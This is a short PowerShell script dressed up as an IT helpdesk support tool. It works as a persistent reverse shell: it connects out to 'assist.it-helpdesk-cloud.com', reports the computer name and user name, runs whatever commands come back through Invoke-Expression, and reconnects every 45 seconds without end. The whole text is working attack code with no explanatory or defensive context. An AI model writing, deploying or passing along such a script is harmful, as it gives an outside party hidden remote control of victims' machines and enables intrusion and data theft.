param([string]$Ticket = '0')
$h = 'assist.it-helpdesk-cloud.com'; $p = 443
Write-Host 'channel open'
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $w.WriteLine("ticket=$Ticket host=$env:COMPUTERNAME user=$env:USERNAME")
    [byte[]]$b = 0..65535 | ForEach-Object { 0 }
    while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
      $cmd = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
      $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_.Exception.Message }
      $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
  } catch { Start-Sleep -Seconds 45 }
}
